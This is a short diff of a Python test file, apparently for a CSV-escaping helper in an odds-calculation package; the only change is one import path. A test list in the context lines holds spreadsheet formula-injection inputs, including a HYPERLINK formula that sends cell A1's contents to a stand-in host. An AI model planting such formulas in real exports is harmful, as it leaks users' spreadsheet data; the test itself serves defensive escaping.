@@ -14,7 +14,7 @@ import pytest
 
 from exactodds.compare import compare_variants, render_comparison
 from exactodds.escape import csv_cell
-from exactodds.paytable import load_paytable
+from exactodds.paytable_loader import load_paytable
 from exactodds.report import Sheet, build_sheets, render
 
 FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+2", "@SUM(A1:A9)", "-2+3"]
